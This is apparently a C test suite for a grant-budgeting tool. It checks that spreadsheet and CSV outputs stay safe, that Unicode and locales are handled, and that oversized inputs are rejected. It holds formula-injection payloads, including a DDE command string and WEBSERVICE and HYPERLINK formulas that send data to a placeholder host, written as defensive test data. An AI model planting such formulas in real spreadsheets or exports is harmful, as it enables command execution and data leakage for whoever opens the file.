/* Hostile texts, files and surroundings. */
#include "book.h"
#include "model/schema.h"
#include "run.h"
#include "table.h"

#include <locale.h>
#include <stdio.h>
#include <string.h>

#define MARK "MARK"

/* A section of each sort, so every text key can be set. */
static const char model[] =
    "[grant]\ntitle = a\ncurrency = EUR\nstart = 2026-01-01\nmonths = 6\n"
    "[salary]\namount = 60000\nper = year\n"
    "[tier.a]\npercent = 50\n"
    "[tutoring.a]\nrate = 40\nquantity = 2\n"
    "[compute.a]\nrate = 3\nquantity = 100\n"
    "[expense.a]\nrate = 7\nquantity = 1\n"
    "[step.a]\nfrom = 2026-03-01\nraise = 3\n"
    "[person.a]\namount = 100\nper = month\n"
    "[contribution.a]\npercent = 1\n"
    "[instalment.a]\ndate = 2026-01-01\n"
    "[oncost.a]\npercent = 10\n"
    "[contingency]\npercent = 5\n"
    "[fee.a]\npercent = 3\n"
    "[overlap.a]\nstart = 2026-02-01\nend = 2026-02-28\n"
    "[application.a]\nfunder = f\nasked = 1\n[award]\namount = 9\n"
    "[comparables]\n"
    "[area.a]\nshare = 50\n[effort]\nhours_per_week = 20\n"
    "[milestone.a]\nmonth = 2\narea = a\n"
    "[currency.usd]\nrate = 1.1\n";

/* Texts that a spreadsheet might compute, fetch or run. */
static const struct payload_case {
    const char *name, *text;
} payloads[] = {
    {"a sum", "=1+" MARK},
    {"a plus", "+" MARK},
    {"a minus", "-" MARK},
    {"an at", "@" MARK},
    {"a call", "=HYPERLINK(\"http://a.example/\"&A1,\"" MARK "\")"},
    {"another program", "=cmd|'/C " MARK "'!A0"},
    {"a fetch", "=WEBSERVICE(\"http://a.example/\"&" MARK ")"},
    {"a wide equals", "＝1+" MARK},
    {"a wide at", "＠" MARK},
    {"the end of a string", "\"&" MARK "&\""},
    {"the end of an element", "]]></t></f><f>" MARK "</f>&lt;f>"},
    {"marks of a header", "&P&D&\"Arial\"&K00-024" MARK "&G"},
};

/* All texts of the schema as options that set them to $T; returns how many. */
static size_t set_all(FILE *out)
{
    size_t count = 0;

    for (size_t s = 0; s < SECTION_COUNT; s++)
        for (size_t k = 0; k < schema[s].key_count; k++) {
            const char *middle = !schema[s].named                      ? ""
                                 : !strcmp(schema[s].name, "currency") ? "usd."
                                                                       : "a.";

            /* Those of taxes are names, which are looked up. */
            if (schema[s].keys[k].kind != KIND_TEXT || s == SECTION_TAX ||
                s == SECTION_INCOME) /* which need tables */
                continue;
            fprintf(out, " --set \"%s.%s%s=$T\"", schema[s].name, middle,
                    schema[s].keys[k].name);
            count++;
        }
    return count;
}

/* The texts of a workbook that are the payload; none may be in a formula. */
static size_t count_texts(const char *path, const char *payload)
{
    struct saved_book *book = saved_open(path);
    const struct saved_cell *cells;
    size_t count, found = 0;

    assert_non_null(book);
    cells = saved_cells(book, &count);
    for (size_t i = 0; i < count; i++) {
        if (cells[i].formula && strstr(cells[i].formula, MARK))
            fail_msg("%s: %s", cells[i].ref, cells[i].formula);
        if (cells[i].content == CONTENT_TEXT && !cells[i].formula)
            found += !strcmp(cells[i].text, payload);
    }
    saved_close(book);
    return found;
}

static void test_payload(void **state)
{
    const struct payload_case *c = *state;
    char *sets;
    size_t size, count;
    FILE *out = open_memstream(&sets, &size);

    count = set_all(out);
    fclose(out);
    write_file(scratch("model.ini"), model);
    setenv("T", c->text, 1);
    run_well("\"$STIPEND\" write -o $D/a.xlsx $D/model.ini %s", sets);
    assert_true(count > 20);
    assert_true(count_texts(scratch("a.xlsx"), c->text) >= count);
    run_well("\"$STIPEND\" compare --format csv $D/model.ini %s | "
             "python3 tests/unit/read_csv.py",
             sets);
    free(sets);
}

/* Texts keep their bytes in every output. */
static const struct script_case {
    const char *name, *text;
} scripts[] = {
    {"Hebrew", "מלגת מחקר"},
    {"Persian, with what keeps letters apart", "می‌خواهم"},
    {"Hindi", "शोध अनुदान"},
    {"marks over letters", "a\u0301\u0328 o\u0308"},
    {"Chinese", "独立研究"},
    {"a family", "\U0001f469\u200d\U0001f467\u200d\U0001f466"},
};

static void test_script(void **state)
{
    static const char *const formats[] = {"text", "csv", "markdown"};
    const struct script_case *c = *state;

    write_file(scratch("model.ini"), model);
    setenv("T", c->text, 1);
    for (size_t i = 0; i < COUNT_OF(formats); i++)
        run_well("\"$STIPEND\" compare --format %s --set \"tier.a.label=$T\" "
                 "$D/model.ini | grep -qF \"$T\"",
                 formats[i]);
    run_well("\"$STIPEND\" write --set \"grant.title=$T\" -o $D/a.xlsx "
             "$D/model.ini");
    assert_true(count_texts(scratch("a.xlsx"), c->text) > 0);
}

/* Texts that other readers of our output might misread. */
static const struct read_case {
    const char *name, *text;
} reads[] = {
    {"a formula behind a semicolon and a quote", "x;\"=1+1;y"},
    {"a formula behind quotes and blanks", "x; \" \"\"=1+1"},
    {"a formula behind a tab", "x\t=1+1"},
    {"a formula behind a bar", "x|\"@a;-b"},
    {"a formula behind a quote", "\"=1+1"},
    {"a quote at the end", "x;\""},
    {"an address", "ask a.b-c+d_e@b.example now"},
    {"an address at once", "a@b.example"},
    {"a mailbox", "mailto:a@b.example, xmpp:a@b.example/c"},
    {"a name", "@name and (@other_name)"},
    {"two signs", "a@@b.example @_@"},
    {"an address of points and lines", "user@.b user@-b.co me@_.co"},
    {"a sign alone", "3 pounds @ 5"},
    {"a sign in code", "`a@b.example` ``@name``"},
    {"places", "http://a.example https://b.example ftp://c.example"},
    {"a place without a beginning", "www.a.example WWW.b.example"},
    {"struck out", "~a~ ~~b~~ ^c^ [^1] [ ] :d: ==e=="},
};

static void test_read(void **state)
{
    const struct read_case *c = *state;

    setenv("T", c->text, 1);
    run_well("set -- compare tests/cases/small.ini --set "
             "\"tier.half.label=$T\"; \"$STIPEND\" \"$@\" --format csv | "
             "python3 tests/unit/read_csv.py && \"$STIPEND\" \"$@\" --format "
             "markdown | cmark-gfm -e autolink -e table -e strikethrough | "
             "python3 tests/unit/read_markdown.py");
}

/* Files made to take time or memory, and the complaints about them. */
static const struct bomb_case {
    const char *name, *maker, *said;
} bombs[] = {
    {"five megabytes of comments", "yes '# comment' | head -c 5000000",
     "is larger than 1048576 bytes"},
    {"what never ends", "cat /dev/zero | head -c 99999999",
     "is larger than 1048576 bytes"},
    {"one line of a megabyte",
     "echo '[a]'; yes a | tr -d '\\n' | head -c 1000000",
     "the line has 1000000 bytes; at most 1000 can be read"},
    {"a hundred thousand sections", "yes '[cost.a]' | head -100000",
     "has 100000 sections; at most 5000 are read"},
    {"a hundred thousand keys", "echo '[grant]'; yes 'a = 1' | head -100000",
     "has 100000 keys; at most 40000 are read"},
    {"a value that goes on and on",
     "echo '[grant]'; echo 'title = a\\'; yes 'b\\' | head -100000; echo c",
     "the value is longer than"},
    {"half a million lines of prose", "echo '[a]'; yes a | head -500000",
     "this is a text of other lines than [section] and key = value"},
    {"many bad lines", "yes = | head -500000 | sed '1s/^/[a]/'", "more"},
    {"many bad lines in a section with a long name",
     "printf '[x%0989d]\\n' 0; yes = | head -500000", "more"},
    {"zeroes", "head -c 1000000 /dev/zero", "seems to be UTF-16"},
};

static void test_bomb(void **state)
{
    const struct bomb_case *c = *state;
    /* Not with the address sanitizer, which asks for all addresses. */
    struct run run = run_shell(
        "grep -q __asan_init \"$STIPEND\" || ulimit -v 250000; ulimit -t 60; "
        "{ %s; } | \"$STIPEND\" check -",
        c->maker);

    assert_int_equal(run.status, 1);
    if (!strstr(run.err, c->said))
        fail_msg("said: %.300s", run.err);
    assert_true(strlen(run.err) < 130000);
    run_free(&run);
}

/* Locale and time zone do not change a byte of the output. */
static const struct place_case {
    const char *name, *locale, *zone;
} places[] = {
    {"a decimal comma, and I without a dot", "tr_TR.UTF-8", "Europe/Istanbul"},
    {"other digits, from right to left", "fa_IR.UTF-8", "Asia/Tehran"},
    {"an island", "C.UTF-8", "Pacific/Kiritimati"},
    {"west of all dates", "C", "<-12>12"},
    {"an unknown time zone", "C", "Nowhere/At_all"},
};

#define ALL_OF_IT                                                              \
    "(\"$STIPEND\" compare " MODELS "; \"$STIPEND\" schedule " MODEL ";"       \
    " \"$STIPEND\" compare --format json " MODEL ";"                           \
    " \"$STIPEND\" compare --format csv " MODEL ";"                            \
    " \"$STIPEND\" check tests/cases/values.ini tests/cases/beginner.ini;"     \
    " \"$STIPEND\" explain " MODEL " tier.target.request;"                     \
    " \"$STIPEND\" settle " MODEL "; \"$STIPEND\" list keys;"                  \
    " \"$STIPEND\" help manual; \"$STIPEND\" init;"                            \
    " \"$STIPEND\" write -o - " MODEL " | cat) 2>&1 | cksum"
#define MODEL "templates/upskilling.ini"
#define MODELS "tests/cases/treatments.ini tests/cases/wide.ini"

static void test_place(void **state)
{
    const struct place_case *c = *state;
    struct run here, there;

    setenv("LOCPATH", "build/locale", 1);
    if (!setlocale(LC_ALL, c->locale))
        fail_msg("there is no locale %s here", c->locale);
    setlocale(LC_ALL, "C");
    here = run_shell("export LC_ALL=C TZ=UTC; " ALL_OF_IT);
    there = run_shell("export LC_ALL=%s LANG=%s TZ='%s'; " ALL_OF_IT, c->locale,
                      c->locale, c->zone);
    assert_string_equal(here.out, there.out);
    assert_true(atol(strchr(here.out, ' ')) > 100000);
    run_free(&here);
    run_free(&there);
}

int main(void)
{
    int failed =
        RUN_TABLE("texts that look like formulas", payloads, test_payload);

    failed |= RUN_TABLE("scripts", scripts, test_script);
    failed |= RUN_TABLE("texts in other programs", reads, test_read);
    failed |= RUN_TABLE("files that are too much", bombs, test_bomb);
    failed |= RUN_TABLE("locales and time zones", places, test_place);
    return failed;
}
